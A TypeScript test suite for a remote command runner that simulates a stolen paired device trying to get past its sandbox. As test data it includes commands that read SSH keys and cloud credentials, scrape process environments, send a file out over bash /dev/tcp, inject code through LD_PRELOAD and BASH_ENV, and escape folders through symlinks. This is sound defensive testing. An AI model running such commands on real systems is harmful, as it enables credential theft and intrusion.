// Somebody has a device that the owner paired, and speaks past its Dispatch. It may run things here, and
// nothing else.
import { existsSync, linkSync, mkdirSync, readFileSync, renameSync, symlinkSync } from 'node:fs';
import type { AddressInfo } from 'node:net';
import { createServer, type Server } from 'node:net';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import type { ShellAction } from '../../../src/core/actions.ts';
import { isFinal } from '../../../src/core/runs.ts';
import { needs } from '../../helpers/needs.ts';
import { processesWith } from '../../helpers/processes.ts';
import { runBecomes } from '../../helpers/two-peers.ts';
import { until } from '../../helpers/until.ts';
import { type Attacker, createAttacker, refused } from './attacker.ts';
import { ask, type Field, LOOT, obey, openField, patient, requestOf, SECRET, sayYes, settled } from './field.ts';

patient();

const READ = { access: 'read-only' } as const;
const FULL = { access: 'full-access' } as const;

needs('bwrap')('a stolen device', () => {
  let field: Field;
  let runner: Attacker;
  let approver: Attacker;
  let flooder: Attacker;
  let server: Server;
  const caught: Buffer[] = [];
  /** A file that shows that something was done that nobody allowed; each test has its own. */
  const canary = (name: string): string => join(field.home.work, `canary-${name}`);
  let ownerSecret: string;

  beforeAll(async () => {
    field = await openField('far', {
      config: '[secrets]\nDEPLOY = { file = "~/.deploy-token" }\nFROM_ENV = { env = "OWNERS_SECRET" }\n',
      env: () => ({ OWNERS_SECRET: SECRET }),
    });
    for (const path of ['.ssh/id_ed25519', '.aws/credentials', '.netrc', '.bash_history', '.config/gh/hosts.yml'])
      field.put(path, `${LOOT}\n`, 0o600);
    ownerSecret = field.put('.deploy-token', `${SECRET}\n`, 0o600);
    field.put('notes.txt', 'an ordinary file\n');
    symlinkSync(join(field.home.work, '.ssh'), join(field.home.work, 'link-to-keys'));
    symlinkSync(field.outside, join(field.home.work, 'link-out'));
    // Each is written into the file of pairings as the one before left it.
    runner = await createAttacker(field, 'runner', ['run']);
    approver = await createAttacker(field, 'approver', ['run', 'approve']);
    flooder = await createAttacker(field, 'flooder', ['run']);
    server = createServer((socket) => socket.on('data', (bytes) => caught.push(bytes)).on('error', () => {}));
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    await field.home.begin();
  });
  afterAll(async () => {
    server?.close();
    await Promise.all([runner, approver, flooder].map((each) => each?.close()));
    await field?.dispose();
  });

  const outputSoFar = async (run: string): Promise<string> => {
    const { size } = await (await field.home.ask()).output({ run, offset: 0 });
    return size > 0 ? 'on' : '';
  };
  const settledFinal = (run: string) => runBecomes(field.home, run, 'over', isFinal, 60_000);

  const steal = (): string =>
    [
      'cd ~; cat .ssh/id_ed25519 link-to-keys/id_ed25519 .aws/credentials .netrc .bash_history .config/gh/hosts.yml',
      `cat ${field.home.paths.identityFile} | od -An -tx1; cat ${field.home.paths.pairingsFile}`,
      `cat ${field.home.paths.configFile}; ls -R ${field.home.path}; cat ${field.home.paths.thread}/*`,
      'cat notes.txt',
    ].join('; ');
  const identity = (): string => readFileSync(field.home.paths.identityFile).subarray(0, 16).toString('hex');
  const bare = (text: string): string => text.replace(/\s+/g, '');

  describe('with the grant to run alone', () => {
    test('wants keys and passwords of the owner, and those of Dispatch', async () => {
      const run = await runner.send(runner.offer(steal(), READ));
      expect(run).toMatchObject({ enforced: 'read-only', startedAt: expect.any(Number) as number });
      const got = await runner.output(run.id);
      expect(got).toContain('an ordinary file');
      expect(got).not.toContain(LOOT);
      expect(bare(got)).not.toContain(identity());
      for (const trace of [runner.device, '[secrets]', 'peer.sock', 'MANIFEST']) expect(got).not.toContain(trace);
      // It is all there for whoever has full access.
      const { output } = await obey(field, steal(), FULL);
      expect(output.split(LOOT).length - 1).toBe(6);
      expect(bare(output)).toContain(identity());
      for (const trace of [runner.device, '[secrets]', 'peer.sock', 'MANIFEST']) expect(output).toContain(trace);
    });

    test('wants a secret that it was not given', async () => {
      const tries =
        'cat ~/.deploy-token; printenv | grep -i secret; cat /proc/*/environ | tr "\\0" "\\n" | grep OWNERS';
      const run = await runner.send(runner.offer(tries, READ));
      expect(isFinal(run)).toBe(true);
      expect(await runner.output(run.id)).not.toContain(SECRET);
      expect((await obey(field, `cat ${ownerSecret}`, FULL)).output).toContain(SECRET);
    });

    test('wants a secret by its name, unasked', async () => {
      for (const access of ['read-only', 'workspace-write'] as const) {
        const { status } = await runner.send(runner.offer('echo $DEPLOY $FROM_ENV', { access, secrets: ['DEPLOY'] }));
        expect(status).toBe('waiting_approval');
      }
    });

    test('wants the keys by working in their folder', async () => {
      for (const cwd of ['.ssh', 'link-to-keys']) {
        const run = await runner.send(
          runner.offer('cat id_ed25519; cat ./*', { ...READ, cwd: join(field.home.work, cwd) }),
        );
        expect(isFinal(run)).toBe(true);
        expect(await runner.output(run.id)).not.toContain(LOOT);
      }
    });

    test('wants to work outside of the folders, through links and dots', async () => {
      const ways = [
        field.outside,
        join(field.home.work, 'link-out'),
        `${field.home.work}/../../outside`,
        `${field.home.work}/link-out/.`,
        '/',
        '/etc',
        '/proc/self/root',
      ];
      for (const cwd of ways) {
        for (const access of ['read-only', 'workspace-write'] as const) {
          const run = await runner.send(runner.offer('pwd', { access, cwd }));
          expect(run, cwd).toMatchObject({ status: 'failed', reason: 'refused' });
        }
      }
    });

    test('wants to send what it reads elsewhere', async () => {
      const { port } = server.address() as AddressInfo;
      const send = `bash -c 'cat ~/notes.txt > /dev/tcp/127.0.0.1/${port}'`;
      const run = await runner.send(runner.offer(send, READ));
      expect(run).toMatchObject({ status: 'failed', reason: 'exit' });
      expect(caught).toEqual([]);
      await obey(field, send, FULL);
      await until('what was sent', () => Buffer.concat(caught).includes('an ordinary file'));
    });

    test('wants more access than it names', async () => {
      const trace = canary('access');
      const link = await runner.link();
      for (const access of ['root', '', 'FULL-ACCESS', null, 3]) {
        const offer = runner.offer(`touch ${trace}`, { access: access as ShellAction['access'] });
        await expect(link.call('offer', offer), String(access)).rejects.toThrow();
      }
      for (const access of ['workspace-write', 'full-access'] as const) {
        const sent = await runner.send(runner.withYes(runner.offer(`touch ${trace}`, { access })));
        expect(sent.status).toBe('waiting_approval');
      }
      expect((await runner.send(runner.offer(`touch ${trace}`, READ))).status).toBe('failed');
      expect(existsSync(trace)).toBe(false);
      const last = await runner.send(runner.offer(`touch ${trace}`));
      await sayYes(field, last.id);
      await until('the canary', () => existsSync(trace));
    });

    test('wants its own code in a harmless command, by variables', async () => {
      const trace = canary('env');
      const evil = field.put('evil/ls', `#!/bin/sh\ntouch ${trace}\n`, 0o755);
      const variables: Record<string, string>[] = [
        { BASH_ENV: evil },
        { ENV: evil },
        { PATH: `${join(evil, '..')}:/usr/bin:/bin` },
        { PATH: '.:/usr/bin' },
        { LD_PRELOAD: evil },
        { LD_LIBRARY_PATH: join(evil, '..') },
        { 'BASH_FUNC_ls%%': `() { touch ${trace}; }` },
        { PROMPT_COMMAND: evil, PS4: `$(touch ${trace})`, SHELLOPTS: 'xtrace' },
      ];
      for (const env of variables) {
        const asked = await runner.send(runner.offer('ls', { env }));
        expect(asked.status, JSON.stringify(env)).toBe('waiting_approval');
        await settled(field, (await runner.send(runner.offer('ls', { ...READ, env }))).id);
      }
      expect(existsSync(trace)).toBe(false);
      const approved = await runner.send(runner.offer('ls', { env: variables[0] as Record<string, string> }));
      await sayYes(field, approved.id);
      await until('the canary', () => existsSync(trace));
    });

    test('wants to say yes to its own run', async () => {
      const trace = canary('own');
      const { id } = await runner.send(runner.offer(`touch ${trace}`));
      const asked = await requestOf(field, id);
      const link = await runner.link();
      await expect(link.call('decide', runner.answer(asked, 'approve'))).rejects.toMatchObject(refused);
      const edit = { approval: asked.id, digest: asked.digest, command: 'true' };
      await expect(link.call('edit', edit)).rejects.toMatchObject(refused);
      await expect(link.call('propose', { approval: asked.id })).rejects.toMatchObject(refused);
      expect((await settled(field, id)).status).toBe('waiting_approval');
      expect(existsSync(trace)).toBe(false);
    });

    test('wants a password that is written while it looks', async () => {
      const wait = 'until grep -q ready notes.txt; do sleep 0.05; done; cat .netrc .pgpass';
      const offer = runner.offer(`echo on; ${wait}`, READ);
      await (await runner.link()).call('offer', offer);
      await runBecomes(field.home, offer.run, 'on', ({ startedAt }) => startedAt !== undefined, 60_000);
      await until('its beginning', async () => (await outputSoFar(offer.run)).includes('on'));
      // As git, npm and editors write: a new file that takes the place of the old one.
      field.put('.netrc.new', `${LOOT} new\n`, 0o600);
      renameSync(join(field.home.work, '.netrc.new'), join(field.home.work, '.netrc'));
      field.put('.pgpass', `${LOOT} new\n`, 0o600);
      field.put('notes.txt', 'an ordinary file\nready\n');
      await settledFinal(offer.run);
      expect(await runner.output(offer.run)).not.toContain(LOOT);
    });

    test('wants to know what lies where it may not look', async () => {
      const link = await runner.link();
      const said = async (cwd: string): Promise<string> => {
        const action = { kind: 'shell', command: 'pwd', access: 'read-only', cwd } as const;
        const { because } = await link.call('check', { action });
        return because.join('; ').replaceAll(cwd, 'THERE');
      };
      const nothing = await said(join(field.outside, 'nothing'));
      mkdirSync(join(field.outside, 'folder'));
      for (const there of ['folder', 'runner.key']) expect(await said(join(field.outside, there))).toBe(nothing);
      expect(await said(join(field.home.work, 'link-out'))).not.toContain(field.outside);
    });

    test('wants all the slots', async () => {
      const link = await flooder.link();
      const offers = Array.from({ length: 12 }, () => flooder.offer('sleep 300', READ));
      for (const offer of offers) await link.call('offer', offer);
      await runBecomes(field.home, offers[0]?.run as string, 'on', ({ startedAt }) => startedAt !== undefined);
      const { id } = await ask(field, 'true', READ);
      const done = await runBecomes(field.home, id, 'over', isFinal, 10_000).catch(() => undefined);
      for (const { run } of offers) await link.call('cancel', { run });
      expect(done).toMatchObject({ status: 'completed' });
    });

    test('wants a request of somebody else to go unseen among its own', async () => {
      const link = await flooder.link();
      const offers = Array.from({ length: 60 }, () => flooder.offer('touch flood'));
      for (const offer of offers) await link.call('offer', offer);
      await Promise.all(offers.map(({ run }) => settled(field, run)));
      const { id } = await ask(field, 'touch of-the-owner');
      await settled(field, id);
      const { out, err } = await field.home.cli(['approvals']);
      for (const { run } of offers) await link.call('cancel', { run });
      // It is among those that are shown, and what is left out is told, with whose it is.
      expect(out).toContain('touch of-the-owner');
      expect(err).toMatch(/\d+ more wait \(\d+ from \S+\): dispatch approvals -n \d+/);
      await (await field.home.ask()).call('cancel', { run: id });
    });

    test('wants to keep the owner busy with requests', async () => {
      const link = await flooder.link();
      // As many at once as the link takes, again and again: what counts the open ones must not be overtaken.
      const offers = (count: number) =>
        Promise.allSettled(Array.from({ length: count }, () => link.call('offer', flooder.offer('touch flood'))));
      const answers = [];
      for (let wave = 0; wave < 5; wave++) answers.push(...(await offers(60)));
      const taken = answers.filter(({ status }) => status === 'fulfilled').length;
      const client = await field.home.ask();
      const { runs } = await client.call('runs.list', {
        status: ['queued', 'running', 'waiting_approval'],
        limit: 1000,
      });
      const open = runs.filter(({ origin }) => origin === flooder.device).length;
      await client.call('device.revoke', { device: flooder.device });
      expect(open).toBeGreaterThan(100);
      expect(Math.max(open, taken)).toBeLessThanOrEqual(200);
    });

    test('wants to go on when the owner has thought better of it', async () => {
      const client = await field.home.ask();
      const begin = async (who: Attacker, action: Partial<ShellAction>): Promise<string> => {
        const offer = who.offer('echo on; sleep 300', action);
        await (await who.link()).call('offer', who.withYes(offer));
        await runBecomes(field.home, offer.run, 'on', ({ startedAt }) => startedAt !== undefined, 60_000);
        await until('its process', () => processesWith(`DISPATCH_RUN=${offer.run}`).length > 0);
        return offer.run;
      };
      const over = async (run: string): Promise<void> => {
        expect(await runBecomes(field.home, run, 'over', isFinal)).toMatchObject({
          status: 'cancelled',
          reason: 'revoked',
        });
        expect(processesWith(`DISPATCH_RUN=${run}`)).toEqual([]);
      };
      const [reads, writes] = [await begin(runner, READ), await begin(approver, {})];
      await client.call('permissions.set', { maxAccess: 'read-only' });
      await over(writes);
      expect((await client.call('run.get', { run: reads })).run.status).toBe('running');
      expect((await approver.send(approver.withYes(approver.offer('true')))).status).toBe('failed');
      await client.call('permissions.set', { reachableFolders: [field.outside] });
      await over(reads);
      expect((await runner.send(runner.offer('true', READ))).status).toBe('failed');
      await client.call('permissions.set', { maxAccess: 'full-access', reachableFolders: [field.shared] });
      expect((await runner.send(runner.offer('true', READ))).status).toBe('completed');
    });
  });

  test('wants a key by another name of it', async () => {
    // What the owner linked there before is the owner's own doing; what a run links is not.
    const { output } = await obey(field, 'ln ~/.netrc ~/copy; cat ~/copy; cp ~/.netrc ~/copy2; cat ~/copy2');
    expect(output).not.toContain(LOOT);
    mkdirSync(join(field.home.work, 'plain'));
    linkSync(join(field.home.work, 'notes.txt'), join(field.home.work, 'plain/notes.txt'));
    expect((await obey(field, 'cat ~/plain/notes.txt')).output).toContain('an ordinary file');
  });
});
